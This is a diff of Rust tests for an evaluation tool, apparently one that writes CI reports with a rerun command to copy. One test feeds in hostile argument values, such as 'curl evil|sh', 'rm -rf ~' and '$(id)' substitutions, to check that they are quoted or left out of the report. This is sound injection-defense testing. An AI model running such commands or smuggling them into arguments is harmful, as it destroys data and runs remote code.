@@ -26,7 +26,8 @@ fn check_inert(text: &str) {
             [format!("<{tag}>"), format!("</{tag}>")].map(|tag| text.matches(&tag).count());
         assert_eq!(opened, closed, "{tag}");
     }
-    for line in text.lines() {
+    // akit's own commands are blocks to copy.
+    for line in text.lines().filter(|line| !matches!(*line, "  ```sh" | "  ```")) {
         let start = line.trim_start();
         assert!(!start.starts_with(['/', ':', '`', '~', '@']), "{line}");
     }
@@ -45,6 +46,8 @@ fn in_pipeline(mut fixture: Fixture, before: &str) -> Fixture {
         page: Some("https://ci.example/akit.html".to_owned()),
         commit: Some(format!("{web}/commit/0123456789abcdef")),
         files: Some(format!("{web}/blob/0123456789abcdef")),
+        docs: Some("https://git.example/akit/docs".to_owned()),
+        ..Links::default()
     };
     let mut run = fixture.run.clone();
     (run.run_id, run.at) = ("earlier".to_owned(), Some("2025-01-02T03:04:05Z".to_owned()));
@@ -113,6 +116,8 @@ fn every_line_has_a_link_and_every_link_is_well_formed() {
     for at in text.lines().filter(|line| line.starts_with("- at: ")) {
         assert!(at.contains(&format!("]({web}/blob/0123456789abcdef/evals/")) && at.contains("#L"), "{at}");
     }
+    let docs = found.iter().filter_map(|one| one.strip_prefix("https://git.example/akit/"));
+    assert_eq!(docs.collect::<Vec<_>>(), ["docs/findings.md"]);
     let alone = of_report(&Fixture::short().report());
     assert_eq!(addresses(&alone), Vec::<&str>::new(), "nothing to link to outside of a pipeline");
 }
@@ -125,10 +130,7 @@ fn regressions_come_right_after_the_decision_and_no_row_is_empty() {
     assert_eq!((lines[1], lines[2]), ("", "**Broken since the baseline**"));
     assert!(lines[3].starts_with("- [<code>support/broken</code>](https://git.example/"), "{}", lines[3]);
     let rows: Vec<_> = lines.iter().filter(|line| line.starts_with("| ")).collect();
-    assert_eq!(
-        rows,
-        [&"| | now | baseline | change |", &"| pass rate | 40.0% | 60.0% | −20.0\u{a0}points |"]
-    );
+    assert_eq!(rows, [&"| | now | baseline | change |", &"| pass rate | 40.0% | 60.0% | −20.0 points |"]);
     for line in lines {
         let value = line.split_once(": ").map_or(line, |(_, value)| value);
         assert!(!value.trim().is_empty() || line.trim().is_empty(), "{line:?}");
@@ -146,10 +148,17 @@ fn a_command_to_copy_runs_nothing_from_a_stored_run() {
     };
     let usual = suite(&["my bot/a.yaml", "-t release gate", "--case x"]);
     assert!(usual.contains("akit run 'my bot/a.yaml' -t 'release gate' --case x"), "{usual}");
-    for word in ["-x;curl${IFS}evil.example|sh y", "--case$(id) y", "$(id)", "a.yaml; rm -rf ~"] {
+    for word in ["$(id)", "a.yaml; rm -rf ~", "a\"`id`"] {
         let page = suite(&[word]);
-        let command = page.split("<code>akit run ").nth(1).unwrap();
+        let command = page.split("\n  akit run ").nth(1).unwrap();
         assert!(command.starts_with('\''), "{command}");
+    }
+    // What a shell or akit would read as something else is not printed at all.
+    let long = "a".repeat(300);
+    for word in
+        ["-x;curl evil|sh y", "--json .bashrc", "--case$(id) y", "a\n```\nb", "a\u{202e}b", "a<b", &long]
+    {
+        assert!(!suite(&[word]).contains("akit run"), "{word}");
     }
 }
 
@@ -192,7 +201,7 @@ fn many_failures_fit_by_leaving_out_whole_entries() {
     assert!(text.len() <= MOST && text.len() > MOST / 2, "{}", text.len());
     assert_eq!(text.matches("<details>").count(), text.matches("</details>").count());
     let shown = text.matches("<details>").count();
-    let said = format!("Left out here, for length: {} failed cases.", number::size(2_000 - shown));
+    let said = format!("Omitted for length: {} failed cases.", number::size(2_000 - shown));
     assert!(text.contains(&said), "{said} {}", text.lines().last().unwrap());
     assert!(text.contains("#### About this run"), "facts matter more than one more case");
 }
@@ -208,7 +217,7 @@ fn a_passing_run_is_two_lines_and_facts() {
     #### About this run
     - application: openai gpt-4o at api.openai.com
     - judge: openai gpt-4o-mini at api.openai.com
-    - spent: 1.24 s
+    - usage: 1.24 s
     - note: 1 of 1 passed; with so few cases the true failure rate could still be up to 95% (95% confidence)
     - note: api.openai.com refused <code>seed</code>; asked without it
     ");
